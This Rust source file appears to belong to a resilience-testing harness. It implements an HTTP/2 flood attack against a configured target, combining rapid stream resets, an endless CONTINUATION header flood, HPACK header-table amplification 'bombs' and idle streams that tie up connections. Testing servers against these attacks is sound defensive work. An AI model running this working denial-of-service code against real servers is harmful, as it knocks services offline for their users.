//! [`HttpFlood`]: frames of HTTP/2 that are cheap to send and dear to receive.

use anyhow::{Result, bail};
use async_trait::async_trait;
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::attack::{Attack, Tally, again};
use crate::http;
use crate::setup::{ATTACKER, Scale, Setup};
use crate::target::Target;

/// Opens streams to give them up, sends heads without end, and opens streams for nothing.
pub(crate) struct HttpFlood;

/// Connections of each kind.
fn connections(scale: Scale) -> usize {
    scale.of(4, 16)
}

/// Streams that are opened and given up in one write.
const RESETS: u32 = 50;

/// Streams of a connection that wait for events.
const STREAMS: u32 = 100;

/// What a stream, a connection, and the heads of one may cost.
const STREAM_BYTES: u64 = 32 << 10;

#[async_trait(?Send)]
impl Attack for HttpFlood {
    fn name(&self) -> &'static str {
        "http-flood"
    }

    fn about(&self) -> &'static str {
        "HTTP/2 with rapid resets, endless heads, bombs of headers and streams without events"
    }

    fn unit(&self) -> &'static str {
        "streams"
    }

    fn setup(&self, scale: Scale) -> Setup {
        Setup {
            http: true,
            bound: 4 * connections(scale) as u64 * u64::from(STREAMS) * STREAM_BYTES,
            shown_by: &["http_connections_ended{"],
            ..Setup::default()
        }
    }

    async fn run(&self, target: &Target, until: Instant, tally: &Tally) -> Result<()> {
        let flood = (0..4 * connections(target.scale)).map(|number| {
            again(until, tally, move || async move {
                let stream = http::connect(target, (number % 4) as u8 + 1).await?;
                match number % 4 {
                    0 => rapid_reset(stream, tally).await,
                    1 => endless_head(stream, tally).await,
                    2 => bombs(stream, tally).await,
                    _ => idle_streams(stream, tally).await,
                }
            })
        });
        join_all(flood).await;
        Ok(())
    }
}

/// Writes, and drops what the server answers, so that it never waits for the attacker.
async fn write(stream: &mut TcpStream, bytes: &[u8]) -> Result<()> {
    let (mut reading, mut writing) = stream.split();
    let mut answer = vec![0; 64 << 10];
    let mut written = 0;
    while written < bytes.len() {
        tokio::select! {
            wrote = writing.write(&bytes[written..]) => written += wrote?,
            read = reading.read(&mut answer) => if read? == 0 {
                bail!("the server closed it");
            },
        }
    }
    Ok(())
}

async fn rapid_reset(mut stream: TcpStream, tally: &Tally) -> Result<()> {
    write(&mut stream, http::PREFACE).await?;
    let fields = http::get("/events?topic=attacker.x", ATTACKER);
    for first in (1..u32::MAX / 4).step_by(2 * RESETS as usize) {
        let numbers = (0..RESETS).map(|number| first + 2 * number);
        let frames: Vec<_> = numbers
            .flat_map(|number| [http::get_on(number, &fields), http::reset(number)].concat())
            .collect();
        write(&mut stream, &frames).await?;
        tally.done(RESETS.into());
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// A head that goes on in frame after frame (CONTINUATION flood).
async fn endless_head(mut stream: TcpStream, tally: &Tally) -> Result<()> {
    write(&mut stream, http::PREFACE).await?;
    let fields = http::get("/topics", ATTACKER);
    let begin = http::frame(http::HEADERS, http::END_STREAM, 1, &fields);
    write(&mut stream, &begin).await?;
    tally.done(1);
    let more = http::frame(http::CONTINUATION, 0, 1, &large_fields());
    loop {
        write(&mut stream, &more).await?;
    }
}

/// Fields of 100 bytes each that are not indexed, 8 KiB in all.
fn large_fields() -> Vec<u8> {
    let field = [&[0x00, 0x01, b'x', 96][..], &[b'x'; 96]].concat();
    field.repeat(80)
}

/// Heads that name one large field of the table again and again: few bytes that become many.
async fn bombs(mut stream: TcpStream, tally: &Tally) -> Result<()> {
    write(&mut stream, http::PREFACE).await?;
    /// The field that was indexed last.
    const NEWEST: u8 = 0x80 | 62;
    let indexed = [&[0x40, 0x01, b'x', 0x7f, 0x81, 0x17][..], &[b'x'; 3_072]].concat();
    for number in (1..u32::MAX / 4).step_by(2) {
        let mut fields = http::get("/topics", ATTACKER);
        fields.extend_from_slice(&indexed);
        fields.extend(std::iter::repeat_n(NEWEST, 8_000));
        write(&mut stream, &http::get_on(number, &fields)).await?;
        tally.done(1);
    }
    Ok(())
}

async fn idle_streams(mut stream: TcpStream, tally: &Tally) -> Result<()> {
    write(&mut stream, http::PREFACE).await?;
    let fields = http::get("/events?topic=attacker.x", ATTACKER);
    for number in 0..STREAMS {
        write(&mut stream, &http::get_on(1 + 2 * number, &fields)).await?;
        tally.done(1);
    }
    let mut answer = vec![0; 64 << 10];
    while stream.read(&mut answer).await? > 0 {}
    bail!("the server closed it")
}
